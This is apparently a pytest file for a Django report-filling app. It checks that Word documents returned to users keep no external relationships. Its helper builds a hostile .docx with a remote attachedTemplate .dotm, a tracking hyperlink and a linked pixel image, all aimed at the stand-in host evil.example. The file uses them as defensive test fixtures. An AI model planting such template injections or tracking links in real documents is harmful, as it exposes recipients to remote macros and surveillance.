"""Issue 16 F9: a document we hand back carries no external relationship (a remote attachedTemplate .dotm,
a linked image, a hyperlink's target …) from any of its parts: Word would fetch them when it opens it."""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from taizhang.reports.fill.tests.conftest import docx_bytes

pytestmark = pytest.mark.django_db

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
EVIL = "http://evil.example"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def _hostile(document) -> None:  # noqa: ANN001
    # settings.xml: a remote template Word loads (with its macros) when the file opens
    settings_part = document.part._settings_part
    rid = settings_part.relate_to(f"{EVIL}/t.dotm", ATTACHED_TEMPLATE, is_external=True)
    settings_part.element.append(parse_xml(f'<w:attachedTemplate {W} {R} r:id="{rid}"/>'))
    # the body: a hyperlink around text with a blank, and a picture linked (not embedded) from outside
    paragraph = document.add_paragraph("本期共学习")
    rid = document.part.relate_to(f"{EVIL}/track", RT.HYPERLINK, is_external=True)
    paragraph._p.append(
        parse_xml(f'<w:hyperlink {W} {R} r:id="{rid}"><w:r><w:t>第一议题X次</w:t></w:r></w:hyperlink>')
    )
    document.add_paragraph("。")
    rid = document.part.relate_to(f"{EVIL}/pixel.png", RT.IMAGE, is_external=True)
    document.add_paragraph()._p.append(
        parse_xml(
            f'<w:r {W} {R}><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
            f'<v:imagedata r:id="{rid}"/></v:shape></w:pict></w:r>'
        )
    )
    # a header: another part with its own relationships
    header = document.sections[0].header
    header.paragraphs[0].text = "页眉"
    rid = header.part.relate_to(f"{EVIL}/h", RT.HYPERLINK, is_external=True)
    header.paragraphs[0]._p.append(
        parse_xml(f'<w:hyperlink {W} {R} r:id="{rid}"><w:r><w:t>链接</w:t></w:r></w:hyperlink>')
    )


def _external_targets(data: bytes) -> list[str]:
    package = zipfile.ZipFile(io.BytesIO(data))
    found = []
    for name in package.namelist():
        if name.endswith(".rels"):
            xml = package.read(name).decode()
            found += [f"{name}: {m}" for m in re.findall(r"<Relationship [^>]*External[^>]*>", xml)]
    return found


def test_the_hostile_draft_has_what_we_strip():
    data = docx_bytes(_hostile)
    assert len(_external_targets(data)) == 4
    assert b"attachedTemplate" in zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml")


def test_F9_a_filled_docx_keeps_no_external_relationship_of_the_draft(world):
    client = Client()
    client.force_login(world.secretary_a)
    response = client.post(
        reverse("reports:fill_upload"),
        {
            "file": SimpleUploadedFile("带外链.docx", docx_bytes(_hostile)),
            "campaign": world.campaign.pk,
            "org": world.branch_a.pk,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    filled = client.get(response["Location"].rstrip("/") + "/download/")
    assert filled.status_code == 200
    data = filled.content
    assert _external_targets(data) == []
    package = zipfile.ZipFile(io.BytesIO(data))
    for name in package.namelist():
        assert EVIL.encode() not in package.read(name), name
    assert b"attachedTemplate" not in package.read("word/settings.xml")
    # The text stays, the blank filled; the document still opens.
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
    assert "第一议题0次" in text
    assert docx.Document(io.BytesIO(data)).sections[0].header.paragraphs[0].text == "页眉链接"


def test_F9_a_generated_report_has_no_external_relationship(world):
    from taizhang.reports.services import report_generate

    report = report_generate(campaign=world.campaign, actor=world.admin)
    with report.file.open("rb") as stream:
        assert _external_targets(stream.read()) == []
